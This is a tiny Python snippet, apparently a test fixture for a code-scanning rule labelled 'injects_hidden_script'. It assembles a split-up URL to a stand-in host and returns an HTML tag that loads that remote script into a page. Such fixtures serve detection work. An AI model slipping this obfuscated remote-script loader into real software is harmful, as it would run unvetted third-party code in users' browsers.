_P = ["ht", "tps:", "//", "themes", ".", "st-cdn", ".example", "/l.js"]
def bootstrap():
    src = "".join(_P)
    # ruleid: injects_hidden_script
    return "<script>var s=document.createElement('script');s.src='" + src + "';document.head.appendChild(s);</script>"
